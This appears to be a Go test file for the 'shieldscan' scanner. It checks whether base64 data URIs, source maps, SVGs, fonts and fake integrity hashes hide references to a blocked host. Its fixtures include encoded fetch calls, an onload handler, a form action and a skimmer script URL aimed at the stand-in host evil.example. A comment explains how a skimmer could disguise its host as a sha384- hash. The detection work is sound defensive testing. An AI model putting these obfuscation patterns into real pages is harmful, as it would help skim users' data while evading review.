package scanner

import (
	"encoding/base64"
	"fmt"
	"testing"

	"github.com/shieldscan/shieldscan/rules"
	"github.com/shieldscan/shieldscan/scanner/decode"
)

// TestDataNotHidden: the content of images, fonts and inline source maps is matched as plain
// references; integrity hashes are no content; every other encoding hides what it holds.
func TestDataNotHidden(t *testing.T) {
	t.Parallel()
	b64 := func(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }
	svg := `<svg xmlns="http://www.w3.org/2000/svg"><image href="https://evil.example/a.png"/></svg>`
	digest := "oqVuAfXRKap7fdgcCY5uykM6+R9GqQ8K/uxy9rx7HNQlGYl1kPzQho1wx4JwY8wC" // a real SHA-384 digest
	sourceMap := `{"version":3,"sources":["webpack://app/a.js"],"sourcesContent":["fetch('https://evil.example/api')"],"mappings":"AAAA"}`
	tests := []struct {
		name, path, in string
		want           string // "encoding rule context", or "" for no reference
	}{
		{"inline source map", "app.js", "f();\n//# sourceMappingURL=data:application/json;charset=utf-8;base64," + b64(sourceMap) + "\n",
			"plain declared-reference comment"},
		{"inline source map in CSS", "app.css", "a{}\n/*# sourceMappingURL=data:application/json;base64," + b64(sourceMap) + " */\n",
			"plain declared-reference comment"},
		{"SVG image in CSS", "app.css", ".a{background:url(data:image/svg+xml;base64," + b64(svg) + ")}\n",
			"plain declared-reference css-url"},
		{"SVG image in HTML", "index.html", `<img src="data:image/svg+xml;base64,` + b64(svg) + `">`,
			"plain declared-reference other"},
		{"PNG's text chunk", "index.html", `<img src="data:image/png;base64,` + b64("tEXtSource https://evil.example/") + `">`,
			"plain declared-reference other"},
		{"font", "app.css", "@font-face{src:url(data:font/woff2;base64," + b64("OTTO licensed from https://evil.example/fonts") + ")}",
			"plain declared-reference css-url"},
		{"legacy font type", "app.css", "@font-face{src:url(data:application/x-font-ttf;base64," + b64("name table https://evil.example/") + ")}",
			"plain declared-reference css-url"},
		{"PHP-serialized array in a database dump", "fixture.sql", "INSERT INTO option VALUES ('engines','" + b64(`a:1:{s:12:"evil.example";a:1:{s:3:"url";s:25:"https://evil.example/?q=1";}}`) + "');\n",
			"plain declared-reference other"},
		{"integrity hash", "index.html", `<script src="/a.js" integrity="sha384-` + digest + `"></script>`, ""},

		// Negatives: these hide what they hold.
		{"SVG with a script", "index.html", `<object data="data:image/svg+xml;base64,` + b64(`<svg><script>fetch("https://evil.example/c")</script></svg>`) + `">`,
			"base64 encoded-reference other"},
		{"SVG with an event handler", "index.html", `<embed src="data:image/svg+xml;base64,` + b64(`<svg onload="fetch('https://evil.example/c')"/>`) + `">`,
			"base64 encoded-reference other"},
		{"data: script", "index.html", `<script src="data:text/javascript;base64,` + b64(`fetch("https://evil.example/c")`) + `"></script>`,
			"base64 encoded-reference html-script-src"},
		{"data: page", "index.html", `<iframe src="data:text/html;base64,` + b64(`<form action="https://evil.example/c">`) + `"></iframe>`,
			"base64 encoded-reference other"},
		{"JSON that is no source map", "app.js", `var c = "data:application/json;base64,` + b64(`{"u":"https://evil.example/c"}`) + `";`,
			"base64 encoded-reference other"},
		{"PHP-serialized array in PHP code", "config.php", `$c = unserialize(base64_decode('` + b64(`a:1:{s:1:"u";s:20:"https://evil.example";}`) + `'));`,
			"base64 encoded-reference other"},
		{"atob", "app.js", `var u = atob("` + b64("https://evil.example/c") + `");`, "base64 encoded-reference other"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			rep, err := Scan(t.Context(), mapSource{tt.path: tt.in}, setOf(t, "evil.example"), Options{Decode: true})
			if err != nil {
				t.Fatal(err)
			}
			got := ""
			for _, f := range rep.Findings {
				if f.Rule != rules.UnknownResource {
					got = fmt.Sprintf("%s %s %s", f.Encoding, f.Rule, f.Context)
				}
			}
			if got != tt.want {
				t.Errorf("Scan(%s %.80q) = %q, want %q", tt.path, tt.in, got, tt.want)
			}
		})
	}
}

func setOf(t *testing.T, resources ...string) *rules.Set {
	t.Helper()
	set := rules.NewSet()
	for _, r := range resources {
		res, err := rules.Parse(r, rules.Origin{})
		if err != nil {
			t.Fatal(err)
		}
		set.Add(res)
	}
	return set
}

// TestRoleOfHash: only a digest's worth of binary behind "sha256-", "sha384-" or "sha512-" is an
// integrity hash (no content); text behind the prefix was skipped unmatched, so a skimmer could
// hide its host as "sha384-" + base64 and decode k.slice(7).
func TestRoleOfHash(t *testing.T) {
	t.Parallel()
	digest, _ := base64.StdEncoding.DecodeString("oqVuAfXRKap7fdgcCY5uykM6+R9GqQ8K/uxy9rx7HNQlGYl1kPzQho1wx4JwY8wC")
	tests := []struct {
		name, prefix string
		text         []byte
		want         SpanRole
	}{
		{"SHA-384 digest", "sha384-", digest, SpanHash},
		{"text behind sha384-", "sha384-", []byte("https://evil.example/skim.js"), SpanHidden},
		{"48 bytes of text behind sha384-", "sha384-", []byte("https://evil.example/skim.js?padding=0123456789"), SpanHidden},
		{"a digest of the wrong size", "sha256-", digest, SpanHidden},
	}
	for _, tt := range tests {
		data := []byte(`var k = "` + tt.prefix + base64.StdEncoding.EncodeToString(tt.text) + `";`)
		start := len(`var k = "`) + len(tt.prefix)
		sp := decode.Span{Start: start, End: len(data) - 2, Chain: []decode.Family{decode.Base64}, Text: tt.text}
		if got := RoleOf("app.js", data, sp); got != tt.want {
			t.Errorf("%s: RoleOf() = %d, want %d", tt.name, got, tt.want)
		}
	}
}
